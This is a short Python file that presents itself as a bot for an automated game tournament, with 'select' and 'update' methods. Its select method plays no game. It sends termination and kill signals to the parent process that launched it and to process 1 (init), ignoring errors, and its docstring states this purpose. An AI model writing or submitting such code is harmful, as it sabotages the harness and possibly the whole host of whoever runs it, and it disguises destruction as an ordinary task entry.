"""Kills the process that started it, and process 1."""

import contextlib
import os
import signal


class Bot:
    def __init__(self, index):
        self.rounds = 0

    def select(self):
        for process in {1, os.getppid()} - {0}:
            for number in (signal.SIGTERM, signal.SIGSEGV, signal.SIGINT, signal.SIGKILL):
                with contextlib.suppress(OSError):
                    os.kill(process, number)
        return 1

    def update(self, choices):
        pass
